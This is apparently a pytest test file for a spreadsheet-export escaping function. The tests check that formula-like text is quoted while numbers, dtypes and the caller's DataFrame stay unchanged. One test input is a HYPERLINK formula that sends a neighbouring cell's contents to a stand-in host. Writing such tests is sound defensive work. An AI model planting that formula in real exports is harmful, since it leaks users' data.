"""indicators.exports: text a spreadsheet would run as a formula gets a leading
apostrophe; numbers, negative ones included, stay numbers (issue 17 row 9)."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from indicators.exports import spreadsheet_cell, spreadsheet_safe

LINK = '=HYPERLINK("http://x.example/?"&B2,"点击查看")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (LINK, "'" + LINK),
        ("+86 28 1234", "'+86 28 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("成都市", "成都市"),
        ("a=b", "a=b"),
        ("", ""),
        (-12.5, -12.5),
        (-3, -3),
        (None, None),
    ],
)
def test_exc001_formula_text_is_quoted_and_nothing_else_changes(value, expected) -> None:
    assert spreadsheet_cell(value) == expected


def test_exc002_a_table_keeps_its_numbers_and_column_types() -> None:
    frame = pd.DataFrame(
        {
            "who": [LINK, "成都统计局", None],
            "value": [-12.5, 3.0, None],
            "count": [-1, 2, 3],
            "mixed": ["-1", -2, "ok"],
            "at": pd.to_datetime(["2026-01-01", "2026-01-02", "2026-01-03"]),
        }
    )
    safe = spreadsheet_safe(frame)
    assert safe["who"].tolist()[:2] == ["'" + LINK, "成都统计局"]
    assert safe["mixed"].tolist() == ["'-1", -2, "ok"]
    assert (safe.dtypes == frame.dtypes).all()
    assert safe["value"].tolist()[:2] == [-12.5, 3.0] and safe["count"].tolist() == [-1, 2, 3]
    assert frame["who"].iloc[0] == LINK  # the caller's frame is untouched
    assert list(spreadsheet_safe(pd.DataFrame({"=cmd": [1]})).columns) == ["'=cmd"]


def test_exc003_in_a_workbook_the_cell_is_text_and_the_number_a_number() -> None:
    buffer = io.BytesIO()
    spreadsheet_safe(pd.DataFrame({"who": [LINK], "value": [-12.5]})).to_excel(buffer, index=False)
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    who, value = sheet["A2"], sheet["B2"]
    assert who.data_type == "s" and who.value == "'" + LINK  # no formula
    assert value.data_type == "n" and value.value == -12.5
